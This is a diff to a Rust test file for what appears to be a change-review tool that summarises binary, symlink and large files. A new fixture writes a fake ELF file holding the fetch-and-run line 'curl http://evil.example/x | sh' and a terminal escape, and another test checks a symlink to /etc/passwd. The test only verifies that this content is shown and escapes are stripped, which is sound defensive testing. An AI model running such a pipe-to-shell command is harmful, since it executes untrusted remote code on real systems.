@@ -143,13 +143,41 @@ fn binary_and_type_changes_are_summarised() {
         ["modified bin.dat", "added link", "type was-file"]
     );
     let d = diff(&s, &cs[0], false).unwrap();
-    assert!(d.contains("Binary, large or special"), "{d}");
+    assert!(d.contains("was: data, 5 bytes"), "{d}");
+    assert!(d.contains("now: data, 5 bytes"), "{d}");
     let l = &cs[1];
     assert_eq!(
         l.after.as_ref().unwrap().target.as_deref(),
         Some(Path::new("/etc/passwd"))
     );
     assert!(diff(&s, l, false).unwrap().contains("+-> /etc/passwd"));
+}
+
+#[test]
+fn binary_and_large_files_show_their_type_and_the_text_they_carry() {
+    let t = T::new();
+    let s = t.stage(
+        "printf '\\177ELF\\0\\0curl http://evil.example/x | sh\\0\\033]0;t\\007x' > tool && \
+         seq 1 1000000 > big.txt",
+    );
+    let cs = changes(&s).unwrap();
+    let d = diff(
+        &s,
+        cs.iter().find(|c| c.path == Path::new("tool")).unwrap(),
+        false,
+    )
+    .unwrap();
+    assert!(d.contains("now: ELF executable or library"), "{d}");
+    assert!(d.contains("| curl http://evil.example/x | sh"), "{d}");
+    assert!(!d.contains('\x1b'), "{d:?}");
+    let d = diff(
+        &s,
+        cs.iter().find(|c| c.path == Path::new("big.txt")).unwrap(),
+        false,
+    )
+    .unwrap();
+    assert!(d.contains("now: text, 6888896 bytes"), "{d}");
+    assert!(d.contains("its first 40 lines:\n  | 1\n  | 2\n"), "{d}");
 }
 
 #[test]
